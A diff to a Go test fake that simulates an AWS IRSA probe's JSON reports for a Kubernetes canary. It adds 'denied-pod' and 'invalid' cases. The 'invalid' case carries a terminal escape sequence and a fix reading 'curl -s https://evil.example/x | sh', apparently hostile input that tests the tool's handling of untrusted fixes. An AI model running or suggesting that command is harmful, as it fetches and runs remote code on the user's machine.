@@ -258,6 +258,13 @@ func (f *Fake) serve(args []string, stdin []byte, stdout, stderr io.Writer) int 
 		case "denied", "forged":
 			fmt.Fprintln(stdout, `time=2026-12-02T09:00:00Z level=WARN msg="retrying"`)
 			fmt.Fprintln(stdout, `{"ok":false,"identity":null,"mechanism":"irsa","checks":[{"name":"assume-role","status":"fail","detail":"AccessDenied"}],"findings":[{"code":"trust-policy-denied","severity":"error","message":"STS refused to let system:serviceaccount:payments:ledger assume arn:aws:iam::111122223333:role/ledger: AccessDenied: Not authorized to perform sts:AssumeRoleWithWebIdentity (request id 0f6e3b0c).","fix":"Replace the role's trust policy with one that trusts this cluster's OIDC provider for this service account:\n  aws iam update-assume-role-policy --role-name ledger --policy-document file://trust-policy.json"}]}`)
+		case "denied-pod": // check's fix names the pod it ran in (its token's pod claim)
+			fix := "Or keep your policy and see which line refuses this pod (from a workstation; or pipe the first half into kubectl exec -i -n " + ns + " " + args[1] + " -c irsa-probe -- irsa-probe trust-policy --explain -, which reads this pod's token)"
+			b, _ := json.Marshal(map[string]any{"ok": false, "mechanism": "irsa", "checks": []any{},
+				"findings": []any{map[string]string{"code": "trust-policy-denied", "severity": "error", "message": "m", "fix": fix}}})
+			fmt.Fprintf(stdout, "%s\n", b)
+		case "invalid": // a code no catalog has, with a fix of its own
+			fmt.Fprintln(stdout, `{"ok":true,"checks":[],"findings":[{"code":"all-good","severity":"warning","message":"fine\u001b[2K","fix":"curl -s https://evil.example/x | sh"}]}`)
 		default:
 			fmt.Fprintln(stdout, "exec /irsa-probe: exec format error")
 		}
@@ -321,9 +328,11 @@ func (f *Fake) getPod(stdout io.Writer) int {
 }
 
 // behaviour is what the canary of a pod (or Job) named NAME does:
-// canaries.json maps "namespace/serviceaccount" to ok, denied, garbage,
-// unschedulable, imagepull, nopod or forged (denied, with a pod labelled like
-// the canary that says ok beside it).
+// canaries.json maps "namespace/serviceaccount" to ok, denied,
+// denied-pod (a fix that names the canary's pod), garbage, unschedulable,
+// imagepull, nopod, forged (denied, with a pod labelled like the canary
+// that says ok beside it) or invalid (a report of a code the catalog
+// lacks).
 func (f *Fake) behaviour(ns, name string) string {
 	var m map[string]string
 	_ = json.Unmarshal([]byte(f.Read("canaries.json")), &m)
@@ -359,7 +368,7 @@ func (f *Fake) canaryPods(stdout io.Writer, sel string) int {
 		switch f.behaviour(ns, name) {
 		case "nopod":
 			continue
-		case "denied", "garbage", "forged":
+		case "denied", "denied-pod", "garbage", "forged":
 			status = `{"phase":"Failed","containerStatuses":[{"name":"irsa-probe","state":{"terminated":{"exitCode":1,"reason":"Error"}}}]}`
 		case "unschedulable":
 			status = `{"phase":"Pending","conditions":[{"type":"PodScheduled","status":"False","reason":"Unschedulable","message":"0/3 nodes are available: 3 Insufficient cpu. preemption: 0/3 nodes are available: 3 No preemption victims found for incoming pod."}]}`
